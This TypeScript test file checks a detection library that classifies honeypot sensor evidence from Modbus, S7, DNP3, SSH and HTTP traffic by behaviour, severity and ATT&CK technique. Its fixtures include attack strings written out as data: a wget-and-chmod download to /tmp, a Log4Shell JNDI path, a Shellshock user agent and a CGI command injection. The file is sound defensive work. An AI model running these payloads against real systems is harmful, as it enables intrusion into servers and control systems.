import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { EVENT } from '../indicator/observation.test-support.ts';
import type { SensorEvent } from '../indicator/sensor-event.ts';
import { attackTechnique } from './attack-technique.ts';
import { decodeBehaviours } from './behaviour.ts';
import { BEHAVIOUR_RULES, behaviourRule } from './behaviour-rules.ts';
import { EVIDENCE_KEYS } from './evidence-key.ts';
import { CONTROL, HOSTILE, LISTED, REQUEST, RULE_ATTACK, UNPROVEN, UNSUPPORTED } from './quality.ts';

function decode(evidence: Record<string, string>, changes: Partial<SensorEvent> = {}) {
  return decodeBehaviours({ ...EVENT, ...changes, evidence });
}

test('a device identity request is a scan', () => {
  assert.deepEqual(decode({ 'modbus.function_code': '43', 'modbus.mei_type': '14' }), {
    behaviours: ['modbus:read-device-identification'],
    intent: 'discover',
    severity: 'LOW',
    categories: ['SCANNER'],
    quality: REQUEST,
  });
});

test('a coil write is an attack', () => {
  assert.deepEqual(decode({ 'modbus.function_code': '0x05' }), {
    behaviours: ['modbus:write-single-coil'],
    intent: 'write',
    severity: 'HIGH',
    categories: ['EXPLOIT'],
    quality: HOSTILE,
  });
});

test('a stopped controller is critical', () => {
  assert.deepEqual(decode({ 's7.function_code': '0x29' }), {
    behaviours: ['s7:plc-stop'],
    intent: 'control',
    severity: 'CRITICAL',
    categories: ['EXPLOIT'],
    quality: CONTROL,
  });
});

test('the strongest of several behaviours counts', () => {
  const decoded = decode({
    connection: 'true',
    'dnp3.function_code': 'COLD_RESTART',
    'login.result': 'failed',
  });
  assert.deepEqual(decoded.behaviours, ['connection:control-system', 'dnp3:cold-restart', 'login:failed']);
  assert.equal(decoded.intent, 'control');
  assert.equal(decoded.severity, 'CRITICAL');
  assert.deepEqual(decoded.categories, ['SCANNER', 'BRUTE_FORCE', 'EXPLOIT']);
  assert.equal(decoded.quality, CONTROL);
});

test('without evidence nothing is claimed, and the report counts for little more than its source', () => {
  const nothing = {
    behaviours: [],
    intent: 'none',
    severity: 'UNSPECIFIED',
    categories: [],
    quality: UNSUPPORTED,
  };
  assert.deepEqual(decode({}), nothing);
  assert.deepEqual(
    decode({ 'modbus.function_code': '-', 'http.path': '', 'snmp.operation': 'Unknown' }),
    nothing,
  );
  assert.deepEqual(decode({ 'unheard.of': '43', constructor: 'x' }), nothing);
});

test('a list entry speaks by its category, but not against its own severity', () => {
  const tor = decode({}, { categories: ['TOR_EXIT_NODE'] });
  assert.deepEqual(tor.behaviours, ['listing:tor-exit']);
  assert.equal(tor.severity, 'INFO');
  assert.equal(tor.quality, UNSUPPORTED);
  assert.equal(decode({}, { categories: ['TOR_EXIT_NODE'], sensorId: '' }).quality, LISTED);
  assert.equal(decode({}, { categories: ['PHISHING'], severity: 'LOW' }).severity, 'UNSPECIFIED');
});

test('what can be forged proves nothing, unless the peer used an answer', () => {
  const quality = (evidence: Record<string, string>, changes: Partial<SensorEvent> = {}) =>
    decode(evidence, changes).quality;
  for (const evidence of [
    { 'snmp.operation': 'get' },
    { 'snmp.operation': 'set' },
    { 'bacnet.service': 'writeProperty' },
    { 'scan.type': 'ports' },
    { connection: 'S0' },
    { connection: 'attempted' },
    { 'modbus.function_code': '43', dialogue: 'false' },
  ]) {
    assert.ok(quality(evidence) <= UNPROVEN, JSON.stringify(evidence));
  }
  for (const evidence of [
    { 'snmp.operation': 'get', dialogue: 'true' },
    { connection: 'established' },
    { connection: 'RSTO' },
    { 'scan.type': 'vulnerabilities' },
    { 'modbus.function_code': '43' },
    { 'http.method': 'GET' },
    { 'login.result': 'failed' },
  ]) {
    assert.ok(0.9 * quality(evidence) >= 0.7, JSON.stringify(evidence));
  }
});

test('what an attacker names is a mention, and no act of its own', () => {
  const url = 'http://files.example.com/a.sh';
  const codes = (value: string, key = 'command.download') => decode({ [key]: url }, { value }).behaviours;
  assert.deepEqual(codes(url), ['mention:url']);
  assert.deepEqual(codes('hxxp://files[.]example[.]com/a.sh'), ['mention:url']);
  assert.deepEqual(codes('files.example.com'), ['mention:host']);
  assert.deepEqual(codes('files[.]example[.]com', 'file.download_failed'), ['mention:host']);
  assert.deepEqual(codes('198.51.100.7'), ['command:download'], 'the attacker');
  assert.deepEqual(
    decode({ 'command.download': 'tftp://198.51.100.7/a' }, { value: '198.51.100.7' }).behaviours,
    ['mention:host'],
  );
  assert.deepEqual(codes('files.example.com', 'file.download'), ['file:download'], 'a file came from it');
});

test('sessions, by what happened in them', () => {
  const ssh = { sensorType: 'NETWORK', protocol: 'SSH' } as const;
  const plc = { sensorType: 'ICS', protocol: 'TELNET' } as const;
  const cases: [Record<string, string>, Partial<SensorEvent>, string[]][] = [
    [{ connection: 'true' }, ssh, ['connection:open']],
    [{ connection: 'true' }, { sensorType: 'NETWORK', protocol: 'S7' }, ['connection:control-system']],
    [{ 'login.result': 'failed' }, { ...ssh, count: 2n }, ['login:failed']],
    [{ 'login.result': 'failed' }, { ...ssh, count: 3n }, ['login:guessing']],
    [{ 'login.result': 'failed' }, { ...ssh, count: 100n }, ['login:persistent-guessing']],
    [{ 'login.result': 'failed', 'login.tries': '2' }, ssh, ['login:failed']],
    [{ 'login.result': 'failed', 'login.tries': '3' }, ssh, ['login:guessing']],
    [
      { 'login.result': 'failed', 'login.tries': '2' },
      { ...ssh, count: 100n },
      ['login:persistent-guessing'],
    ],
    [{ 'login.result': 'failed', 'login.tries': 'many' }, ssh, ['login:failed']],
    [{ 'login.tries': '5' }, ssh, []],
    [{ 'login.result': 'success' }, ssh, ['login:success']],
    [{ 'login.result': 'SUCCESS', 'login.default_credentials': 'true' }, ssh, ['login:default-credentials']],
    [
      { 'login.result': 'success', 'login.default_credentials': 'true' },
      plc,
      ['login:control-system-default-credentials', 'login:control-system-remote-session'],
    ],
    [{ 'login.result': 'maybe' }, ssh, []],
    [{ 'file.download': 'http://198.51.100.7/a' }, ssh, ['file:download']],
    [{ 'file.download_failed': 'http://198.51.100.7/a' }, ssh, ['file:download-failed']],
    [{ 'command.download': 'http://198.51.100.7/a' }, ssh, ['command:download']],
    [{ 'proxy.request': 'example.com:443' }, ssh, ['proxy:request']],
    [{ 'scan.type': 'ports' }, ssh, ['scan:addresses']],
    [{ 'exploit.cve': 'CVE-2021-44228' }, ssh, ['exploit:vulnerability']],
    [{ 'exploit.cve': 'CVE-2015-5374' }, plc, ['exploit:control-system-vulnerability']],
    [{ 'exploit.cve': 'CVE-1' }, ssh, []],
    [
      { 'command.input': 'cd /tmp; wget http://198.51.100.7/x; chmod 777 x; uname -a' },
      ssh,
      ['command:download', 'command:identify-system', 'command:make-executable', 'command:shell'],
    ],
    [{ 'command.input': 'ls' }, ssh, ['command:shell']],
    [{ 'http.method': 'GET', 'http.path': '/index.html' }, ssh, ['http:request']],
    [{ 'http.path': '/?x=$%7Bjndi:ldap://198.51.100.7/a%7D' }, ssh, ['http:exploit']],
    [{ 'http.user_agent': '() { :; }; echo x' }, ssh, ['http:exploit']],
    [{ 'http.path': '/cgi?a=1;wget+http://198.51.100.7/x' }, ssh, ['http:exploit']],
    [{ 'http.path': '/a;id=5', 'http.user_agent': 'Test (X11; curl/8.0)' }, ssh, ['http:request']],
    [{ 'http.path': '/v1.24/containers/create' }, ssh, ['http:create-container']],
    [{ 'http.attack': 'cmd_exec' }, ssh, ['http:exploit']],
  ];
  for (const [evidence, changes, expected] of cases) {
    assert.deepEqual(decode(evidence, changes).behaviours, expected, JSON.stringify(evidence));
  }
});

test('detection rules speak by the kind of act and by the techniques they name', () => {
  const codes = (evidence: Record<string, string>): readonly string[] => decode(evidence).behaviours;
  assert.deepEqual(codes({ 'alert.kind': 'exploit' }), ['alert:exploit']);
  assert.deepEqual(codes({ 'alert.kind': 'COMMAND_AND_CONTROL' }), ['alert:command-and-control']);
  assert.deepEqual(codes({ 'alert.kind': 'anything' }), []);
  assert.deepEqual(codes({ 'attack.technique': 'T1059.004' }), ['technique:t1059-004']);
  assert.deepEqual(codes({ 'attack.technique': 't1190,T9999 T1110' }), [
    'technique:t1110',
    'technique:t1190',
  ]);
  assert.deepEqual(codes({ 'attack.technique': 'T0855' }), ['technique:t1692-001'], 'an id of release 18');
  assert.deepEqual(behaviourRule('technique:t1692-001')?.techniques, ['T1692.001']);
});

test('how bad an alert is, its own rating says', () => {
  const alert = decode({ 'alert.kind': 'exploit', 'attack.technique': 'T1190' }, { severity: 'LOW' });
  assert.equal(alert.severity, 'INFO');
  assert.deepEqual(alert.categories, ['EXPLOIT']);
  assert.equal(alert.quality, RULE_ATTACK * 0.84, 'the author of the rule gave it a low priority');
});

test('hostile evidence never throws, and only known codes come out', () => {
  const keys = fc.oneof(fc.constantFrom(...Object.keys(EVIDENCE_KEYS)), fc.string());
  const values = fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.integer({ min: -10, max: 70_000 }).map(String),
    fc.integer({ min: 0, max: 70_000 }).map((number) => `0x${number.toString(16)}`),
    fc.constantFrom('__proto__', 'READ', 'unknown-99999', '('.repeat(5_000), ' '.repeat(5_000)),
  );
  fc.assert(
    fc.property(fc.dictionary(keys, values), (evidence) => {
      const decoded = decode(evidence);
      for (const code of decoded.behaviours) assert.ok(behaviourRule(code), code);
      assert.ok(decoded.quality > 0 && decoded.quality <= 1);
    }),
    { numRuns: 500 },
  );
});

test('patterns stay linear in hostile text', { timeout: 10_000 }, () => {
  const long = ['${', '../../', '() {', 'chmod -R ', ';  ', 'union  '].map((part) => part.repeat(300_000));
  for (const key of Object.keys(EVIDENCE_KEYS)) for (const value of long) decode({ [key]: value });
});

test('every rule names techniques that are known, in order', () => {
  for (const rule of BEHAVIOUR_RULES.values()) {
    for (const id of rule.techniques) assert.ok(attackTechnique(id), `${rule.code}: ${id}`);
    assert.deepEqual([...rule.techniques].sort(), rule.techniques, rule.code);
    assert.match(rule.code, /^[a-z0-9]+:[a-z0-9-]+$/);
  }
});

test('the ladder: what reaches deeper is never milder', () => {
  for (const rule of BEHAVIOUR_RULES.values()) {
    if (rule.intent === 'discover') assert.ok(['LOW', 'MEDIUM'].includes(rule.severity), rule.code);
    if (rule.intent === 'program') assert.equal(rule.severity, 'CRITICAL', rule.code);
    if (['write', 'control', 'program'].includes(rule.intent)) {
      assert.deepEqual(rule.categories, ['EXPLOIT'], rule.code);
      assert.notEqual(rule.severity, 'LOW', rule.code);
    }
  }
});
